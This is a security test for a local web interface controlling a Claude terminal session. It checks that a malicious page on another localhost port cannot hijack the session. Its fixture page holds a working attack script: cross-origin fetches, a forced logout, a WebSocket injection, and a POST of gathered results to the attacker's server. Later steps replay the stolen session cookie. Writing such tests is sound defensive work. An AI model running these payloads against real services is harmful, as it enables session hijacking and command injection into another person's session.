// Another user of the machine against the web face, in headless Chromium on the REAL claude: the
// person, logged in to a real `flower-pty web` with input allowed, visits a page that user serves on
// another port of 127.0.0.1. The browser hands that server the session cookie (cookies are not
// port-scoped); what it received, used from a second browser and from a raw client (with the right
// Origin), neither watches nor types, approves, edits, ends nor logs out; the page's own script gets
// nothing either. The person's own page still types.
import t from 'tap';
import { createServer, request, type IncomingHttpHeaders } from 'node:http';
import type { AddressInfo } from 'node:net';
import WebSocket from 'ws';
import { text, usageFor } from '../../src/mock/messages-api.js';
import { startFlower } from '../helpers/flower-run.js';
import { oneRun } from '../helpers/run-servers.js';
import { looksReady } from '../helpers/real-claude.js';
import { logIn, openBrowser, startWeb, waitForPageScreen, type WebFace } from './web-helpers.js';

const MARK = 'NEIGHBOUR-TYPED';

function get(
  web: WebFace,
  path: string,
  headers: Record<string, string>,
  method = 'GET',
): Promise<{ status: number; body: string }> {
  return new Promise((resolve, reject) => {
    const req = request(
      {
        agent: false,
        host: '127.0.0.1',
        port: web.port,
        method,
        path,
        headers: { Host: `127.0.0.1:${web.port}`, ...headers },
      },
      (res) => {
        let body = '';
        res.on('data', (d: Buffer) => (body += d.toString()));
        res.on('end', () => resolve({ status: res.statusCode ?? 0, body }));
      },
    );
    req.on('error', reject);
    req.end();
  });
}

/** a socket as a raw client opens it: 'open' (and what it then heard) or the refusal's status */
function socket(
  web: WebFace,
  path: string,
  headers: Record<string, string>,
  protocols: string[],
): Promise<{ status: number | 'open'; heard: string[] }> {
  return new Promise((resolve) => {
    const ws = new WebSocket(`ws://127.0.0.1:${web.port}${path}`, protocols, { headers });
    const heard: string[] = [];
    ws.on('message', (d) => heard.push(d.toString()));
    ws.on('open', () => {
      ws.send(Buffer.from(`${MARK}\r`), { binary: true });
      ws.send(JSON.stringify({ t: 'compose', text: MARK }));
      ws.send(JSON.stringify({ t: 'end' }));
      setTimeout(() => {
        ws.terminate();
        resolve({ status: 'open', heard });
      }, 1_000);
    });
    ws.on('unexpected-response', (_req, res) => resolve({ status: res.statusCode ?? 0, heard }));
    ws.on('error', () => resolve({ status: 0, heard }));
  });
}

t.test('a page on another port of 127.0.0.1 gets the cookie, and with it nothing', async (t) => {
  const f = await startFlower({
    t,
    respond: () => text('a reply', usageFor(20_000)),
    prompt: 'say something',
    flowerArgs: ['--window', '200k'],
  });
  await f.run.waitFor(async () => looksReady(await f.run.screenText()), 60_000, 'claude idle');
  const run = await oneRun(f.runtime);
  const web = await startWeb(t, { runtime: f.runtime, args: ['--allow-input'] });

  // The neighbour's server: records every request's headers; its page tries the face from the browser.
  const received: IncomingHttpHeaders[] = [];
  const reports: string[] = [];
  const neighbour = createServer((req, res) => {
    received.push(req.headers);
    if (req.url?.startsWith('/report')) {
      let body = '';
      req.on('data', (d: Buffer) => (body += d.toString()));
      req.on('end', () => {
        reports.push(body);
        res.end();
      });
      return;
    }
    res.writeHead(200, { 'Content-Type': 'text/html' });
    res.end(`<!doctype html><title>cat pictures</title><script>
      const face = 'http://127.0.0.1:${web.port}';
      const said = [];
      const tell = () => fetch('/report', { method: 'POST', body: JSON.stringify(said) });
      (async () => {
        try { const r = await fetch(face + '/api/runs', { credentials: 'include' }); said.push('runs ' + r.status + ' ' + (await r.text()).slice(0, 80)); } catch (e) { said.push('runs refused: ' + e.message); }
        try { await fetch(face + '/api/logout', { method: 'POST', mode: 'no-cors', credentials: 'include' }); said.push('logout sent'); } catch (e) { said.push('logout refused'); }
        said.push('storage ' + JSON.stringify(Object.keys(sessionStorage)));
        const ws = new WebSocket('ws://127.0.0.1:${web.port}/ws/run/${run.id}');
        ws.onopen = () => { said.push('socket open'); ws.send(JSON.stringify({ t: 'compose', text: '${MARK}' })); };
        ws.onmessage = (m) => said.push('socket heard ' + String(m.data).slice(0, 40));
        ws.onclose = () => { said.push('socket closed'); tell(); };
      })();
    </script>`);
  });
  await new Promise<void>((r) => neighbour.listen(0, '127.0.0.1', r));
  t.teardown(() => new Promise<void>((r) => neighbour.close(() => r())));
  const neighbourPort = (neighbour.address() as AddressInfo).port;

  // The person logs in and opens the run.
  const context = await openBrowser(t);
  const mine = await context.newPage();
  await logIn(mine, web);
  await mine.goto(`${web.base}/run/${run.id}`);
  await waitForPageScreen(mine, /a reply/, 30_000);

  // ... and visits the neighbour's page, in another tab.
  const lure = await context.newPage();
  await lure.goto(`http://127.0.0.1:${neighbourPort}/`);
  const deadline = Date.now() + 15_000;
  while (reports.length === 0 && Date.now() < deadline) await new Promise((r) => setTimeout(r, 100));
  const cookie = received.map((h) => h.cookie).find((c) => c?.includes('flower_session='));
  t.ok(cookie, "the neighbour's server received the session cookie (cookies are not port-scoped)");
  const said = JSON.parse(reports[0] ?? '[]') as string[];
  t.ok(
    said.some((s) => /^runs refused/.test(s)),
    `its page could not read the runs (${said.join('; ')})`,
  );
  t.ok(said.includes('storage []'), 'its sessionStorage holds nothing of the face');
  t.notOk(
    said.some((s) => /socket open|socket heard/.test(s)),
    'its socket to the run never opened',
  );
  t.ok(said.includes('socket closed'));

  // The neighbour, with every cookie the person's browser has, from a raw client with the face's Origin.
  const headers = { Cookie: cookie!, Origin: web.base };
  t.equal((await get(web, '/api/runs', headers)).status, 401, 'the runs: refused');
  t.equal((await get(web, `/api/run/${run.id}/lineage`, headers)).status, 401, 'the lineage: refused');
  t.equal((await get(web, `/api/run/${run.id}/report`, headers)).status, 401, 'the report: refused');
  const shell = await get(web, `/run/${run.id}`, headers);
  t.notMatch(shell.body, /a reply/, "the run page's HTML holds nothing of the run");
  t.equal((await get(web, '/api/logout', headers, 'POST')).status, 401, 'logging the person out: refused');
  for (const protocols of [[], ['flower'], ['flower', 'flower.'], ['flower', `flower.${cookie!.split('=')[1]}`]]) {
    const tried = await socket(web, `/ws/run/${run.id}`, headers, protocols);
    t.equal(tried.status, 401, `the run's socket offering [${protocols.join(', ')}]: refused`);
    t.same(tried.heard, [], 'and nothing heard');
  }
  t.equal((await socket(web, '/ws/runs', headers, [])).status, 401, "the dashboard's socket: refused");

  // ... and from a second browser holding that cookie.
  const second = await openBrowser(t);
  const [name, value] = [cookie!.split('=')[0]!, cookie!.split('=').slice(1).join('=').split(';')[0]!];
  await second.addCookies([{ name, value, domain: '127.0.0.1', path: '/' }]);
  const theirs = await second.newPage();
  const sockets: string[] = [];
  theirs.on('websocket', (ws) => sockets.push(ws.url()));
  await theirs.goto(`${web.base}/run/${run.id}`);
  await theirs.waitForFunction(() => /not logged in/.test(document.body.textContent ?? ''), undefined, {
    timeout: 15_000,
  });
  t.pass("the second browser's run page says it is not logged in");
  t.same(sockets, [], 'and opened no socket');
  t.equal(await theirs.locator('#term').count(), 0, 'it shows no terminal');
  await theirs.evaluate((mark) => {
    const ws = new WebSocket(`ws://${location.host}/ws/run/${location.pathname.split('/').pop()}`, [
      'flower',
      'flower.guess',
    ]);
    ws.onopen = () => ws.send(JSON.stringify({ t: 'compose', text: mark }));
  }, MARK);

  // Nothing of it reached claude, and the run lives; the person's own page still types.
  await new Promise((r) => setTimeout(r, 2_000));
  t.notMatch(await f.run.screenText(), new RegExp(MARK), "claude's screen shows nothing the neighbour typed");
  t.notOk(
    f.api.requests.some((r) => r.lastUserText.includes(MARK)),
    'no prompt with it reached the model',
  );
  t.equal((await oneRun(f.runtime)).id, run.id, 'the run was not ended');
  await mine.locator('#composetext').fill('MINE-TYPED');
  await mine.locator('#compose button[type="submit"]').click();
  await f.api.waitForRequest((r) => r.isMain && /MINE-TYPED/.test(r.lastUserText), 30_000);
  t.pass("the person's own page still types");
});
